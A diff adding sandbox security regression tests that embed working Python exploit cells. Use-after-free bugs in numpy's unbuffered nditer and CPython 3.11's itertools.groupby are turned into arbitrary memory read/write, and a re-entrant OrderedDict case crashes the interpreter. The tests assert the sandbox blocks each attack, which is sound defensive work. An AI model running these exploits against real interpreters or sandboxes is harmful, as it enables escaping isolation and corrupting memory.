@@ -209,3 +209,184 @@ def test_callbacks_get_arrays_that_own_their_memory(sandbox, api):
     r = sandbox.run(KEEPER + BORROWING_APIS[api] + "\nbad = [k for k in kept if borrowed(k)]\n")
     assert r.ok, r
     assert sandbox.ns["kept"] and sandbox.ns["bad"] == [], r
+
+
+# --- N10-1: an unbuffered nditer's values outlive close() ----------------------------------------------------------
+# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-1: fixed at e282dcb: its strict xfail is now a
+# plain test (same attack, same assertions).
+# N9-5 refused flags=['buffered'] on the premise "unbuffered, every value is a view of an operand, which the view
+# keeps alive". It is not: every value numpy's iterator hands out (for x in it, it.value, it[i]) has the ITERATOR as
+# its base, not the operand. close() (or the end of a `with it:` block) deallocates the C iterator, which drops its
+# references to the operands; an operand nobody else holds (a temporary, an 'allocate'd output, a cast copy) is freed
+# while the values still view it. A bytes object laid on the freed block becomes a bytearray over all memory.
+
+NDITER_UNBUFFERED = '''
+import numpy as np
+bb = np.lib.array_utils.byte_bounds
+SETUP
+stale = kept[-1].view(np.int64)
+lo = bb(stale)[0]
+big, k = [], None
+for i in range(600):
+    big.append(bytes(32000 - 40 + (i % 3) * 8))
+    if lo <= id(big[-1]) and id(big[-1]) + 64 <= lo + 32000:
+        k = (id(big[-1]) - lo) // 8
+        break
+stale[k:k + 7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
+ba = big[-1]
+class Obj:
+    pass
+o = Obj()
+typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
+victim = b'AAAAAAAA-immutable'
+ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
+written = victim == b'PWNED!!!-immutable'
+'''
+
+NDITER_ROUTES = {
+    "close() of a temporary operand": (
+        "it = np.nditer(np.zeros(4000, dtype=np.int64), flags=['external_loop'], op_flags=[['readwrite']])\n"
+        "kept = [x for x in it]\nit.close()"),
+    "with block": (
+        "kept = []\nwith np.nditer(np.zeros(4000, dtype=np.int64), flags=['external_loop'],"
+        " op_flags=[['readwrite']]) as it:\n    for x in it:\n        kept.append(x)"),
+    "it.value of an allocated output": (
+        "it = np.nditer([np.zeros(4000, dtype=np.int64), None], flags=['external_loop'],"
+        " op_flags=[['readonly'], ['writeonly', 'allocate']])\nkept = [it.value[1]]\nit.close()"),
+}
+
+
+@pytest.mark.parametrize("route", sorted(NDITER_ROUTES))
+def test_unbuffered_nditer_values_do_not_outlive_close(route):
+    result = run_reporting(NDITER_UNBUFFERED.replace("SETUP", NDITER_ROUTES[route]), ns=("typeptr", "written"),
+                           timeout=120)
+    assert "crashed" not in result, result
+    assert not result["typeptr"] and not result["written"], json.dumps(result)
+    assert result["ename"] in ("CallDenied", "AttributeDenied"), json.dumps(result)
+
+
+# --- N10-8: CPython 3.11.7's itertools.groupby re-entrancy use-after-free (gh-143543) -------------------------------
+# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-8: the groupby use-after-free is fixed at e282dcb:
+# its strict xfail is now a plain test (same attack, same assertions);
+# the OrderedDict.move_to_end crash below stays a strict xfail (CPython gh-142637, open upstream).
+# groupby_next compares tgtkey and currkey through borrowed pointers; a key's __eq__ that calls next(G) moves tgtkey on
+# and leaves the outer frame the last owner of the first key; returning NotImplemented makes Python try the reflected
+# compare, which hands the freed key to the next key's __eq__ as `other` (fixed upstream in 2026; 3.11 is
+# security-only and this build is 3.11.7). Inside that __eq__ the cell lays list item arrays over the freed 96-byte
+# block (managed-dict pre-header + GC header + a bytearray subclass): `other` becomes a bytearray whose ob_start is a
+# low object address and ob_size a high one, i.e. a bytearray over the process's memory. No library is involved: the
+# rewriter's checkpoints and gates run, and the cell holds the freed object through an ordinary argument.
+
+GROUPBY = '''
+from itertools import groupby
+phase = [0]
+keep = [None] * 400
+found = []
+class Obj:
+    pass
+o = Obj()
+victim = b'AAAAAAAA-immutable'
+D = {}
+cands = [None, True, False, 0, 1, Obj, o, D, keep, victim, found, phase, groupby, bytearray, len]
+LO = min(cands, key=id)
+HI = max(cands, key=id)
+class Key(bytearray):
+    def __eq__(self, other):
+        p = phase[0]
+        phase[0] = p + 1
+        if p == 0:
+            next(G)                 # re-enters groupby; the outer key's last owner is this frame
+            return NotImplemented   # the reflected compare gets the freed key as `other`
+        if p == 2:
+            for j in range(300):    # 12-slot item arrays: the freed key's 96-byte block; a fake bytearray header
+                keep[j] = [None, D, None, None, D, Key, HI, None, None, LO, None, None]
+            found.append(other)
+        return False
+def keys():
+    while True:
+        yield Key()
+G = groupby([None, 1], keys().send)
+next(G)
+next(G)
+fake = found[0]
+size_ok = len(fake) == id(HI)
+base = id(LO)
+def peek(addr):
+    return int.from_bytes(bytes([fake[addr - base + k] for k in range(8)]), 'little')
+typeptr = peek(id(o) + 8) == id(Obj)
+for k, c in enumerate(b'PWNED!!!'):
+    fake[id(victim) + 32 - base + k] = c
+written = victim == b'PWNED!!!-immutable'
+'''
+
+
+def test_groupby_reentrant_eq_reaches_no_memory():
+    result = run_reporting(GROUPBY, ns=("size_ok", "typeptr", "written"), timeout=120)
+    assert "crashed" not in result, result
+    assert not result["typeptr"] and not result["written"], json.dumps(result)
+
+
+# The same class, no weaponisation needed for a crash: OrderedDict.move_to_end/pop/__delitem__ look the key up while a
+# re-entrant __eq__ clears the dict; _odict_clear_node then walks the freed node table (CPython gh-142637, open
+# upstream): the kernel process dies with SIGSEGV.
+
+ODICT = '''
+from collections import OrderedDict
+class Original:
+    def __hash__(self):
+        return 1
+class Trigger:
+    def __hash__(self):
+        return 1
+    def __eq__(self, other):
+        od.clear()
+        return True
+for i in range(200):
+    od = OrderedDict()
+    for j in range(8):
+        od[Original()] = None
+    od.move_to_end(Trigger())
+    ok = True
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N10-8 (open): OrderedDict.move_to_end with a re-entrant __eq__ "
+                                       "that clears the dict kills the kernel: CPython gh-142637, open upstream")
+def test_ordereddict_reentrant_eq_does_not_crash():
+    result = run_reporting(ODICT, ns=("ok",), timeout=120)
+    assert "crashed" not in result, result
+
+
+# --- Review 10 (level none, 2026-11-26, against 0abcd2d): attempts that held --------------------------------------
+# Buffer exporters under numpy views and the nditer's position setters. Three of them are now refused earlier, by
+# rules added when review 10's findings were fixed (e282dcb): `__init__` of a library object is no longer read
+# (AttributeDenied, before BytesIO's own BufferError) and np.nditer is refused (CallDenied, before numpy's own
+# IndexError/ValueError); either refusal holds.
+
+HELD_REVIEW10 = {
+    # a buffer exporter under a numpy view cannot be resized: the view (or numpy's memoryview base) pins it
+    "bytearray under frombuffer": ("import numpy as np\nb = bytearray(4096)\na = np.frombuffer(b, dtype=np.uint8)\n"
+                                   "b.extend(bytes(100000))", ("BufferError",)),
+    "array.array under frombuffer": ("import numpy as np, array\nar = array.array('q', [0] * 512)\n"
+                                     "x = np.frombuffer(ar, dtype=np.int64)\nar.extend([1] * 100000)",
+                                     ("BufferError",)),
+    # BytesIO's getbuffer() memoryview reaches the cell, but re-initialising the BytesIO under it is refused
+    # (now earlier: a library object's __init__ is not read, AttributeDenied)
+    "BytesIO.__init__ under getbuffer()": ("import io\nb = io.BytesIO(bytes(100000))\nm = b.getbuffer()\n"
+                                           "getattr(b, '__init__')(b'')", ("BufferError", "AttributeDenied")),
+    # an nditer's position setters are bounds-checked by numpy (now earlier: np.nditer is refused, CallDenied)
+    "nditer iterindex past the end": ("import numpy as np\nit = np.nditer(np.zeros(4000))\nit.iterindex = 10**6",
+                                      ("IndexError", "CallDenied")),
+    "nditer __init__ again": ("import numpy as np\nit = np.nditer(np.zeros(10))\n"
+                              "getattr(it, '__init__')(np.zeros(20))", ("ValueError", "CallDenied")),
+    # the a.base of a frombuffer array (a memoryview) is refused
+    "frombuffer(...).base": ("import numpy as np\na = np.frombuffer(bytearray(64), dtype=np.uint8)\nm = a.base",
+                             ("AttributeDenied",)),
+}
+
+
+@pytest.mark.parametrize("attempt", sorted(HELD_REVIEW10))
+def test_review10_held_attempts_on_buffers_and_nditer(attempt):
+    cell, expected = HELD_REVIEW10[attempt]
+    result = run_reporting(cell, timeout=120)
+    assert "crashed" not in result and result["ename"] in expected, json.dumps(result)
